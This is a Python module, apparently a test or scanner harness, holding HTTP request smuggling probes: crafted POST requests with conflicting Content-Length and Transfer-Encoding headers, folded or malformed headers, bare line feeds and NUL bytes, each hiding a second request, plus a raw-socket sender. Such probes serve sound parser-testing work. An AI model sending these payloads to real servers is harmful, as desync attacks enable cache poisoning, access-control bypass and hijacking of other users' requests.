"""Requests that two servers could read in two ways, each with a second request inside; and how to send them."""

import re
from collections.abc import Callable
from socket import socket

HOST = b"Host: pledge.example.org\r\n"
SMUGGLED = b"GET /smuggled-path HTTP/1.1\r\n" + HOST + b"\r\n"
POST = b"POST /healthz HTTP/1.1\r\n" + HOST
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"\r\n0\r\n\r\n" + SMUGGLED
PROBES = {
    "both lengths": POST + b"Content-Length: 5\r\n" + CHUNKED + END,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: 45\r\n\r\n" + SMUGGLED,
    "a list of lengths": POST + b"Content-Length: 0, 0\r\n\r\n" + SMUGGLED,
    "a signed length": POST + b"Content-Length: +0\r\n\r\n" + SMUGGLED,
    "an unknown coding": POST + b"Transfer-Encoding: xchunked\r\n" + END,
    "chunked twice": POST + b"Transfer-Encoding: chunked, chunked\r\n" + END,
    "space before the colon": POST + b"Transfer-Encoding : chunked\r\n" + END,
    "a folded header": POST + b"Transfer-Encoding:\r\n chunked\r\n" + END,
    "a bare line feed": POST + b"X: y\n" + CHUNKED + END,
    "a NUL in a header": POST + b"X: \0\r\nContent-Length: 0\r\n\r\n" + SMUGGLED,
    "another protocol": b"POST /healthz HTTP/9.9\r\n" + HOST + b"\r\n" + SMUGGLED,
}
ONLY_BARE_LINE_FEEDS = (POST + b"Content-Length: 0\r\n\r\n" + SMUGGLED).replace(b"\r\n", b"\n") + b"\r\n\r\n"


def send(connect: Callable[[], socket], request: bytes) -> bytes:
    """Sends the request, and returns all that the server answers until it closes the connection."""
    with connect() as connection:
        connection.sendall(request)
        return b"".join(iter(lambda: connection.recv(65536), b""))


def statuses(answer: bytes) -> list[int]:
    return [int(status) for status in re.findall(rb"HTTP/1\.[01] (\d{3})", answer)]
